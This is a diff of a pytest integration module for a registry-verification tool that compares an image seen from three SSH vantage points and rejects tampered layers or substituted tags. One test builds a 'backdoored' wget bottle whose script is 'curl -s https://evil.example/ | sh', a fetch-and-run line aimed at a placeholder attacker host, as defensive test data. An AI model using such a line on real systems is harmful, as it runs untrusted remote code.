@@ -26,6 +26,7 @@ from tests.integration.distribution import (
     REAL_BOTTLE_DIGEST,
     WGET_REPOSITORY,
     WGET_TAG,
+    Bottle,
     BottleTree,
     DistributionRegistry,
     bottle_tree,
@@ -84,7 +85,7 @@ class Outcome:
 
 
 @pytest.fixture(scope="module")
-def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabState]:
+def loopback_lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabState]:
     """This module's own loopback lab: three real sshd vantages, stopped at the end."""
     directory = tmp_path_factory.mktemp("distribution-lab")
     try:
@@ -100,33 +101,10 @@ def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabState]:
 
 @pytest.fixture(scope="module")
 def honest_tree() -> BottleTree:
-    """What the publisher pushed: the real ventura bottle and a stand-in Linux bottle."""
+    """What the publisher pushed: the real ventura bottle, and a Linux one."""
     ventura = real_ventura_bottle()
     assert ventura.digest == REAL_BOTTLE_DIGEST
-    linux = stand_in_bottle(
-        "x86_64_linux", "linux", "amd64", {"bin/wget": b"#!/bin/sh\necho 'wget stand-in'\n"}
-    )
-    return bottle_tree([ventura, linux])
-
-
-@pytest.fixture(scope="module")
-def registry_factory(
-    lab: LabState, tmp_path_factory: pytest.TempPathFactory
-) -> Iterator[RegistryFactory]:
-    """Start distribution registries with certificates from the lab CA; every one is stopped
-    by pid at the end of the module, and must then be gone."""
-    if not DOCKER_REGISTRY.is_file():
-        pytest.fail(
-            f"{DOCKER_REGISTRY} is missing: install Debian's docker-registry package "
-            "(the CNCF distribution registry). These tests must not be skipped."
-        )
-    pki = ensure_pki(lab.directory)  # the lab's own CA, reused as it is
-    assert pki.ca_cert == lab.ca_cert
-    factory = RegistryFactory(tmp_path_factory, pki.ca_cert, pki.ca_key)
-    try:
-        yield factory
-    finally:
-        factory.stop_all()
+    return bottle_tree([ventura, linux_stand_in_bottle()])
 
 
 class RegistryFactory:
@@ -155,6 +133,26 @@ class RegistryFactory:
 
 
 @pytest.fixture(scope="module")
+def registry_factory(
+    loopback_lab: LabState, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[RegistryFactory]:
+    """Start distribution registries with certificates from the lab CA; every one is stopped
+    by pid at the end of the module, and must then be gone."""
+    if not DOCKER_REGISTRY.is_file():
+        pytest.fail(
+            f"{DOCKER_REGISTRY} is missing: install Debian's docker-registry package "
+            "(the CNCF distribution registry). These tests must not be skipped."
+        )
+    pki = ensure_pki(loopback_lab.directory)  # the lab's own CA, reused as it is
+    assert pki.ca_cert == loopback_lab.ca_cert
+    factory = RegistryFactory(tmp_path_factory, pki.ca_cert, pki.ca_key)
+    try:
+        yield factory
+    finally:
+        factory.stop_all()
+
+
+@pytest.fixture(scope="module")
 def origin(registry_factory: RegistryFactory, honest_tree: BottleTree) -> DistributionRegistry:
     """The registry the reference names, serving what the publisher pushed."""
     registry = registry_factory.start("origin")
@@ -173,6 +171,13 @@ def impostor(registry_factory: RegistryFactory) -> Iterator[DistributionRegistry
 
 
 # Helpers.
+
+
+def linux_stand_in_bottle() -> Bottle:
+    """The second platform: only the ventura bottle was captured, so Linux gets a stand-in."""
+    return stand_in_bottle(
+        "x86_64_linux", "linux", "amd64", {"bin/wget": b"#!/bin/sh\necho 'wget stand-in'\n"}
+    )
 
 
 def reference(origin: DistributionRegistry) -> str:
@@ -236,9 +241,9 @@ def assert_vantages_left_nothing_running(lab: LabState) -> None:
     """Every SSH session tofu3 opened (and every curl in it) has ended; the vantages' own
     sshd listeners are still the processes the lab started."""
     deadline = time.monotonic() + SESSION_END_TIMEOUT
-    sessions: dict[str, list[int]] = {}
     while True:
-        sessions = {v.name: children(v.pid) for v in lab.vantages if children(v.pid)}
+        sessions = {v.name: children(v.pid) for v in lab.vantages}
+        sessions = {name: pids for name, pids in sessions.items() if pids}
         if not sessions or time.monotonic() > deadline:
             break
         time.sleep(0.1)
@@ -250,9 +255,9 @@ def assert_vantages_left_nothing_running(lab: LabState) -> None:
 
 
 def test_an_honest_distribution_registry_is_accepted_by_all_three_vantages(
-    lab: LabState, origin: DistributionRegistry, honest_tree: BottleTree, tmp_path: Path
+    loopback_lab: LabState, origin: DistributionRegistry, honest_tree: BottleTree, tmp_path: Path
 ) -> None:
-    inventory = routed_inventory(lab, tmp_path / "inventory.yaml", origin)
+    inventory = routed_inventory(loopback_lab, tmp_path / "inventory.yaml", origin)
 
     outcome = run_verify(reference(origin), inventory)
 
@@ -269,12 +274,12 @@ def test_an_honest_distribution_registry_is_accepted_by_all_three_vantages(
     assert layer["agreed"] is True
     assert {o["digest"] for o in layer["observations"].values()} == {REAL_BOTTLE_DIGEST}
     assert sorted(layer["observations"]) == ["ams", "sfo", "sgp"]
-    assert_vantages_left_nothing_running(lab)
+    assert_vantages_left_nothing_running(loopback_lab)
     assert origin.running()
 
 
 def test_one_vantage_served_a_changed_layer_is_rejected(
-    lab: LabState,
+    loopback_lab: LabState,
     origin: DistributionRegistry,
     impostor: DistributionRegistry,
     honest_tree: BottleTree,
@@ -287,7 +292,9 @@ def test_one_vantage_served_a_changed_layer_is_rejected(
     tampered = bytearray(data_file.read_bytes())
     tampered[len(tampered) // 2] ^= 0xFF
     data_file.write_bytes(bytes(tampered))
-    inventory = routed_inventory(lab, tmp_path / "inventory.yaml", origin, {"sfo": impostor})
+    inventory = routed_inventory(
+        loopback_lab, tmp_path / "inventory.yaml", origin, {"sfo": impostor}
+    )
 
     outcome = run_verify(reference(origin), inventory)
 
@@ -305,13 +312,13 @@ def test_one_vantage_served_a_changed_layer_is_rejected(
     assert observed["ams"]["digest"] == observed["sgp"]["digest"] == REAL_BOTTLE_DIGEST
     assert observed["sfo"]["digest"] != REAL_BOTTLE_DIGEST
     assert observed["sfo"]["size"] == len(tampered)
-    assert_vantages_left_nothing_running(lab)
+    assert_vantages_left_nothing_running(loopback_lab)
     impostor.stop()
     assert not Path(f"/proc/{impostor.pid}").exists()
 
 
 def test_one_vantage_shown_another_consistent_tree_for_the_tag_is_rejected(
-    lab: LabState,
+    loopback_lab: LabState,
     origin: DistributionRegistry,
     impostor: DistributionRegistry,
     honest_tree: BottleTree,
@@ -320,15 +327,18 @@ def test_one_vantage_shown_another_consistent_tree_for_the_tag_is_rejected(
     # A tree that checks out on its own: every digest matches its bytes. Only the other
     # vantages can tell that the tag means something else on sgp's path.
     backdoored = stand_in_bottle(
-        "ventura", "darwin", "amd64", {"bin/wget": b"#!/bin/sh\ncurl -s evil.example | sh\n"}
+        "ventura",
+        "darwin",
+        "amd64",
+        {"bin/wget": b"#!/bin/sh\ncurl -s https://evil.example/ | sh\n"},
+        os_version="macOS 13",
     )
-    linux = stand_in_bottle(
-        "x86_64_linux", "linux", "amd64", {"bin/wget": b"#!/bin/sh\necho 'wget stand-in'\n"}
-    )
-    other_tree = bottle_tree([replace(backdoored, os_version="macOS 13"), linux])
+    other_tree = bottle_tree([backdoored, linux_stand_in_bottle()])
     push_tree(impostor, WGET_REPOSITORY, WGET_TAG, other_tree)
     assert other_tree.index.digest != honest_tree.index.digest
-    inventory = routed_inventory(lab, tmp_path / "inventory.yaml", origin, {"sgp": impostor})
+    inventory = routed_inventory(
+        loopback_lab, tmp_path / "inventory.yaml", origin, {"sgp": impostor}
+    )
 
     outcome = run_verify(reference(origin), inventory)
 
@@ -348,19 +358,21 @@ def test_one_vantage_shown_another_consistent_tree_for_the_tag_is_rejected(
     assert root["ams"]["digest"] == root["sfo"]["digest"] == honest_tree.index.digest
     assert root["sgp"]["digest"] == other_tree.index.digest
     assert outcome.report["pinned_reference"] is None
-    assert_vantages_left_nothing_running(lab)
+    assert_vantages_left_nothing_running(loopback_lab)
     impostor.stop()
     assert not Path(f"/proc/{impostor.pid}").exists()
 
 
 def test_one_vantage_down_is_inconclusive(
-    lab: LabState, origin: DistributionRegistry, tmp_path: Path
+    loopback_lab: LabState, origin: DistributionRegistry, tmp_path: Path
 ) -> None:
     # ams's SSH port is one nothing listens on: the vantage is down, not lying.
-    closed = free_port(lab.vantage("ams").address)
+    closed = free_port(loopback_lab.vantage("ams").address)
     down = replace(
-        lab,
-        vantages=tuple(replace(v, port=closed) if v.name == "ams" else v for v in lab.vantages),
+        loopback_lab,
+        vantages=tuple(
+            replace(v, port=closed) if v.name == "ams" else v for v in loopback_lab.vantages
+        ),
     )
     inventory = routed_inventory(down, tmp_path / "inventory.yaml", origin)
 
@@ -368,12 +380,10 @@ def test_one_vantage_down_is_inconclusive(
 
     assert outcome.exit_status == 3, outcome.stderr
     assert outcome.report["verdict"] == "inconclusive"
-    assert [(f["code"], f["vantage"]) for f in outcome.findings] == [
-        ("VANTAGE_UNREACHABLE", "ams")
-    ]
+    assert [(f["code"], f["vantage"]) for f in outcome.findings] == [("VANTAGE_UNREACHABLE", "ams")]
     assert outcome.vantage("ams")["ok"] is False
     assert outcome.vantage("ams")["error_code"] == "VANTAGE_UNREACHABLE"
     assert outcome.vantage("sfo")["ok"] is True
     assert outcome.vantage("sgp")["ok"] is True
     assert outcome.report["pinned_reference"] is None
-    assert_vantages_left_nothing_running(lab)
+    assert_vantages_left_nothing_running(loopback_lab)
